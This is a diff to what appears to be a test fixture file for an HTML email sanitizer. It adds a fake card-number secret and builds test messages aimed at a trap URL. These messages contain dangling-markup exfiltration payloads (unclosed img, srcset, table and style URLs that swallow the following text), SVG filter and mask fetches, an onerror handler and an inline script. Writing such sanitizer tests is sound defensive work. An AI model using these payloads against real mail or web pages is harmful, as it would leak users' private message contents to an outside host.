@@ -83,3 +83,46 @@ export const TRAP_INIT_SCRIPT = `
   window.__pwned = [];
   window.addEventListener('message', (e) => { if (typeof e.data === 'string' && e.data.startsWith('pwned:')) window.__pwned.push(e.data); });
 `;
+
+/** What a dangling URL would carry away: the words of the message that follow it. */
+export const DANGLING_SECRET = 'Card 4111 1111 1111 1111 for Dana Roe';
+
+/**
+ * The ways past the sanitizer that were open with remote content allowed, aimed at the trap: URLs left open so they
+ * swallow the message after them (dangling markup, on one line, where Chromium's own guard does not apply, and
+ * across lines, where it does), a quote inside a URL, and SVG filters, clip paths and masks by url(), which fetch a
+ * document, not an image. Paths under /ok- are the controls: an image, a background in a style attribute and in a
+ * style sheet and a font, which allowed remote content must load (so the zero of the others is not vacuous).
+ */
+export function danglingHtml(trap: string): string {
+  const rest = (n: number) => `<p>${DANGLING_SECRET} (${n})</p><p class="sig" title='x'>Dana</p>`;
+  return `<!doctype html><html><head>
+<style>
+  @font-face { font-family: Okfont; src: url(${trap}/ok-font) format("woff2"); }
+  body { font-family: Okfont, sans-serif; }
+  .sheet { background-image: url("${trap}/ok-sheet-background"); filter: url("${trap}/filter-sheet.svg#f"); }
+</style></head><body>
+<p>${HOSTILE_SENTENCE}</p>
+<img src="${trap}/ok-image" width="2" height="2" alt="">
+<div style="background-image: url(${trap}/ok-inline-background); filter: url(${trap}/filter-inline.svg#f)">Filtered</div>
+<div class="sheet">Filtered by the style sheet</div>
+<div style="clip-path: url(${trap}/clip.svg#c); mask: url(${trap}/mask.svg#m)">Clipped</div>
+<svg width="9" height="9"><filter id="f"><feImage href="${trap}/feimage"/></filter><rect width="9" height="9" filter="url(${trap}/filter-attr.svg#f)"/></svg>
+<img src='${trap}/dangling-img-one-line?q=${rest(1)}
+<img src="${trap}/dangling-img-lines?q=
+${rest(2)}
+<table background="${trap}/dangling-table?q=${rest(3)}<tr><td>x</td></tr></table>
+<img srcset='${trap}/dangling-srcset?q=${rest(4)}
+<div style='background-image: url("${trap}/dangling-style?q=${rest(5)}">x</div>
+<img src="${trap}/dangling-quote?x'y" alt="quote">
+<img src="nonexistent.png" onerror="parent.postMessage('pwned:onerror','*')" alt="broken">
+<script>parent.postMessage('pwned:script','*')</script>
+<p>End of message.</p>
+</body></html>`;
+}
+
+/** A frameset-only HTML body: nothing is left once frames are removed, so the text alternative must show. */
+export function framesetHtml(trap: string): string {
+  return `<!doctype html><html><head><title>Your order</title></head>
+<frameset cols="50%,50%"><frame src="${trap}/frame-left"><frame src="${trap}/frame-right"></frameset></html>`;
+}
